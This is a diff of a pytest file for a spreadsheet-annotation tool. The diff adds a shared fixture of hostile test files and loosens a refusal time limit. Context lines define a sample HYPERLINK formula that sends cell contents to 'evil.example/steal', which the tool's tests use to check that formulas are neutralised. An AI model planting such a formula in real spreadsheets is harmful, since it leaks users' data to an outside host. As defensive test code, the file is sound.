@@ -24,6 +24,7 @@ from pmo_core.reading import Sheet, UnreadableFile
 from tests.hostile_files import build_corpus
 
 AS_OF = date(2026, 10, 31)
+LIMIT_S = 15  # seconds; the first call also starts the sandbox's fork server
 RED, YELLOW = ERROR_FILL.fgColor.rgb, WARNING_FILL.fgColor.rgb
 EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"Cliquez ici")'
 PROJECT_HEADERS = [
@@ -113,6 +114,11 @@ def note_sizes(data: bytes) -> list[tuple[int, int]]:
 def summary_rows(workbook) -> list[list]:
     """Return the problem list below its header row (row 4)."""
     return [list(row) for row in workbook.worksheets[0].iter_rows(min_row=5, values_only=True)]
+
+
+@pytest.fixture(scope="module")
+def corpus(tmp_path_factory) -> dict[str, Path]:
+    return build_corpus(tmp_path_factory.mktemp("hostile"))
 
 
 @pytest.fixture
@@ -331,8 +337,8 @@ def test_a_cp1252_csv_comes_back_as_an_annotated_xlsx(tmp_path, con):
         ("utf8_comma.csv", "utf8_comma", "Refonte, phase 2"),
     ],
 )
-def test_formats_openpyxl_cannot_open_are_rebuilt_then_annotated(tmp_path, name, sheet, kept):
-    path = build_corpus(tmp_path)[name]
+def test_formats_openpyxl_cannot_open_are_rebuilt_then_annotated(corpus, name, sheet, kept):
+    path = corpus[name]
     issue = Issue(ERROR, "not_a_number", name, sheet, 2, "B", 1, str(kept))
     workbook = open_xlsx(annotated_workbook(path, name, [issue]))
     assert workbook[sheet]["B2"].value == kept
@@ -378,13 +384,13 @@ def test_formula_text_is_neutralised_everywhere(tmp_path, con, kind):
         ("password_protected.xlsx", "password_protected"),
     ],
 )
-def test_a_hostile_file_gives_a_clear_refusal_in_seconds(tmp_path, name, code):
-    path = build_corpus(tmp_path)[name]
+def test_a_hostile_file_gives_a_clear_refusal_in_seconds(corpus, name, code):
+    path = corpus[name]
     started = time.monotonic()
     with pytest.raises(UnreadableFile) as refused:
         annotated_workbook(path, name, [Issue(ERROR, "not_a_number", name, "Sheet1", 2, "B", 1, "x")])
     assert refused.value.code == code
-    assert time.monotonic() - started < 5
+    assert time.monotonic() - started < LIMIT_S
     assert t(f"issue.{code}", "fr") != f"issue.{code}"
 
 
